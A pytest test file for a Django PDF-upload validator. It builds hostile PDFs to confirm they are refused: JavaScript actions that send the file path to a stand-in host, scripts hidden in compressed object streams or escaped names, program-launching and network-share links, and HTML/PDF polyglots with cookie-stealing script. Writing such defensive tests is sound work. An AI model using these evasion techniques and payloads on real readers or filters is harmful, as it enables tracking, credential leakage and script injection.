"""Uploaded PDFs reach the citizen's reader byte for byte: one that could act on its own is refused."""

import io
import zlib

import pytest
from django.utils import translation
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from documents.validation import FileRefused, validate_upload
from tests import samples

JAVASCRIPT = "Les PDF contenant du JavaScript ne sont pas acceptés."
AUTOMATIC = "Les PDF qui déclenchent des actions automatiques"
DANGEROUS = "Les PDF contenant des actions qui lancent un programme"
EMBEDDED = "Les PDF contenant des fichiers joints ne sont pas acceptés."
INTERACTIVE = "Les PDF contenant un formulaire XFA ou du contenu multimédia interactif"
HTML = "Le fichier contient du code HTML ou un script"


def name(value: str) -> NameObject:
    return NameObject(value)


def action(kind: str, **entries) -> DictionaryObject:
    result = DictionaryObject({name("/Type"): name("/Action"), name("/S"): name(kind)})
    result.update({name(f"/{key}"): value for key, value in entries.items()})
    return result


def javascript(code: str = "app.launchURL('https://example.invalid/?' + this.path)") -> DictionaryObject:
    return action("/JavaScript", JS=TextStringObject(code))


def uri(address: str = "https://www.example.invalid/") -> DictionaryObject:
    return action("/URI", URI=TextStringObject(address))


def go_to_first_page(writer: PdfWriter) -> DictionaryObject:
    return action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference, name("/Fit")]))


def build(change=None) -> bytes:
    """A one-page PDF made by pypdf, after `change(writer)` has had its way with it."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if change:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def open_with(make_action):
    def change(writer: PdfWriter) -> None:
        writer._root_object[name("/OpenAction")] = make_action(writer)

    return change


def link_with(make_action):
    """A link annotation on the page, whose click runs the action."""

    def change(writer: PdfWriter) -> None:
        link = DictionaryObject(
            {
                name("/Type"): name("/Annot"),
                name("/Subtype"): name("/Link"),
                name("/Rect"): ArrayObject(
                    [FloatObject(72), FloatObject(700), FloatObject(300), FloatObject(720)]
                ),
                name("/A"): make_action(writer),
            }
        )
        writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(link)])

    return change


def page_additional_action(writer: PdfWriter) -> None:
    # /O: when the page is shown.
    writer.pages[0][name("/AA")] = DictionaryObject({name("/O"): uri()})


def names_javascript(writer: PdfWriter) -> None:
    # Document-level scripts, run by the reader when it opens the file.
    scripts = DictionaryObject(
        {name("/Names"): ArrayObject([TextStringObject("ouverture"), writer._add_object(javascript())])}
    )
    writer._root_object[name("/Names")] = DictionaryObject({name("/JavaScript"): writer._add_object(scripts)})


def embedded_file(writer: PdfWriter) -> None:
    writer.add_attachment("facture.exe", b"MZ\x90\x00not really a program")


def xfa_form(writer: PdfWriter) -> None:
    writer._root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject(), name("/XFA"): TextStringObject("<xdp:xdp/>")}
    )


def rich_media(writer: PdfWriter) -> None:
    annotation = DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name("/RichMedia"),
            name("/Rect"): ArrayObject(
                [NumberObject(0), NumberObject(0), NumberObject(10), NumberObject(10)]
            ),
        }
    )
    writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def javascript_in_an_object_stream() -> bytes:
    """A PDF 1.5 whose catalog and its JavaScript open action sit in a Flate-compressed object stream,
    found through a cross-reference stream: not one byte of the file spells /JavaScript or /JS."""
    inner = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        5: b"<< /Type /Action /S /JavaScript /JS (app.alert\\('objet compresse'\\)) >>",
    }
    header = b" ".join(b"%d %d" % (number, offset) for number, offset in _offsets(inner))
    body = b"".join(inner[number] + b"\n" for number in inner)
    packed = zlib.compress(header + b"\n" + body)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    plain = {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        4: b"<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(header) + 1, len(packed), packed),
    }
    for number, text in plain.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    # Cross-reference stream, 1-4-2 byte fields: type 2 entries point into object stream 4.
    entries = {0: (0, 0, 65535), 1: (2, 4, 0), 5: (2, 4, 1)}
    entries |= {number: (1, offset, 0) for number, offset in offsets.items()}
    xref_number = 6
    entries[xref_number] = (1, len(out), 0)
    rows = b"".join(
        bytes([kind]) + field.to_bytes(4, "big") + extra.to_bytes(2, "big")
        for kind, field, extra in (entries[number] for number in range(xref_number + 1))
    )
    xref_at = len(out)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\n"
        % (xref_number, xref_number + 1, len(rows))
        + b"stream\n%s\nendstream\nendobj\n" % rows
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def _offsets(objects: dict[int, bytes]):
    offset = 0
    for number, text in objects.items():
        yield number, offset
        offset += len(text) + 1


def refused(data: bytes, code: str, french: str) -> None:
    with pytest.raises(FileRefused) as caught:
        validate_upload(name="courrier.pdf", data=data)
    assert caught.value.code == code
    with translation.override("fr"):
        assert french in str(caught.value.message)
    with translation.override("nl"):
        dutch = str(caught.value.message)
    assert dutch and french not in dutch, "the refusal has a Dutch translation"


# --- Refused ----------------------------------------------------------------------------------------


def test_pdf_running_javascript_when_opened_is_refused():
    refused(build(open_with(lambda writer: javascript())), "pdf_javascript", JAVASCRIPT)


def test_pdf_with_a_document_level_javascript_in_its_names_tree_is_refused():
    refused(build(names_javascript), "pdf_javascript", JAVASCRIPT)


def test_javascript_hidden_in_a_compressed_object_stream_is_found_and_refused():
    data = javascript_in_an_object_stream()
    assert b"/JavaScript" not in data and b"/JS" not in data  # no byte search could find it
    assert len(PdfReader(io.BytesIO(data)).pages) == 1  # and the file is a PDF that readers open

    refused(data, "pdf_javascript", JAVASCRIPT)


def test_javascript_spelled_with_escaped_name_characters_is_refused():
    data = build(open_with(lambda writer: javascript())).replace(b"/JavaScript", b"/J#61vaScript")
    data = data.replace(b"/JS ", b"/J#53 ")
    assert b"/JavaScript" not in data and b"/JS " not in data

    refused(data, "pdf_javascript", JAVASCRIPT)


def test_javascript_chained_after_a_harmless_open_action_is_refused():
    def chained(writer):
        first = go_to_first_page(writer)
        first[name("/Next")] = javascript()
        return first

    refused(build(open_with(chained)), "pdf_javascript", JAVASCRIPT)


def test_link_launching_a_program_is_refused():
    launch = link_with(
        lambda writer: action("/Launch", F=TextStringObject("C:\\Windows\\System32\\calc.exe"))
    )
    refused(build(launch), "pdf_dangerous_action", DANGEROUS)


@pytest.mark.parametrize(
    "kind",
    [
        "/SubmitForm",
        "/ImportData",
        "/GoToR",  # opens another file of the citizen's disk
    ],
)
def test_link_sending_data_or_opening_another_file_is_refused(kind):
    refused(
        build(link_with(lambda writer: action(kind, F=TextStringObject("https://example.invalid/")))),
        "pdf_dangerous_action",
        DANGEROUS,
    )


def test_pdf_opening_a_web_address_by_itself_is_refused():
    # It would tell the sender that, when and from where the citizen opened the letter.
    refused(build(open_with(lambda writer: uri())), "pdf_automatic_action", AUTOMATIC)


def test_page_with_an_additional_action_is_refused():
    refused(build(page_additional_action), "pdf_automatic_action", AUTOMATIC)


def test_pdf_with_an_attached_file_is_refused():
    refused(build(embedded_file), "pdf_embedded_file", EMBEDDED)


@pytest.mark.parametrize("change", [xfa_form, rich_media], ids=["xfa", "rich-media"])
def test_pdf_with_an_xfa_form_or_rich_media_is_refused(change):
    refused(build(change), "pdf_interactive", INTERACTIVE)


@pytest.mark.parametrize(
    "markup",
    [
        b"<html><body><script>alert(document.cookie)</script>",
        b"<SCRIPT src=//example.invalid/x.js>",
        b"<!DOCTYPE html>",
    ],
)
def test_html_and_pdf_polyglot_is_refused(markup):
    # A PDF that readers open, whose first kilobytes a browser sniffing the content takes for a page.
    data = samples.pdf_bytes().replace(b"%\xe2\xe3\xcf\xd3\n", b"%" + markup + b"\n", 1)
    assert len(PdfReader(io.BytesIO(data)).pages) == 1

    refused(data, "pdf_html", HTML)


def test_html_appended_after_the_end_of_the_pdf_is_refused():
    refused(samples.pdf_bytes() + b"<html><script>alert(1)</script></html>", "pdf_html", HTML)


# --- Accepted ---------------------------------------------------------------------------------------


def test_plain_pdf_is_accepted():
    assert validate_upload(name="courrier.pdf", data=build()).pages == 1
    assert validate_upload(name="lettre.pdf", data=samples.pdf_bytes(pages=2)).pages == 2


@pytest.mark.parametrize(
    "make_action",
    [
        go_to_first_page,
        # The explicit destination word processors write: open at the first page, whole page shown.
        lambda writer: ArrayObject([writer.pages[0].indirect_reference, name("/Fit")]),
    ],
    ids=["goto-action", "destination"],
)
def test_pdf_opening_at_a_page_is_accepted(make_action):
    assert validate_upload(name="courrier.pdf", data=build(open_with(make_action))).pages == 1


def test_pdf_with_a_clickable_web_link_is_accepted():
    # The reader shows the address and asks before opening it; letters carry the centre's site.
    assert validate_upload(name="courrier.pdf", data=build(link_with(lambda writer: uri()))).pages == 1


@pytest.mark.parametrize(
    "address",
    ["file:///C:/Windows/System32/calc.exe", "\\\\serveur.example.invalid\\partage\\x.exe", "../../bin/sh"],
    ids=["file", "network-share", "relative-path"],
)
def test_link_to_a_file_rather_than_a_web_address_is_refused(address):
    # A reader opens it; a Windows machine connects to the share with the citizen's credentials.
    refused(build(link_with(lambda writer: uri(address))), "pdf_dangerous_action", DANGEROUS)


def test_link_to_a_mail_address_is_accepted():
    data = build(link_with(lambda writer: uri("mailto:cpas@example.invalid")))
    assert validate_upload(name="courrier.pdf", data=data).pages == 1
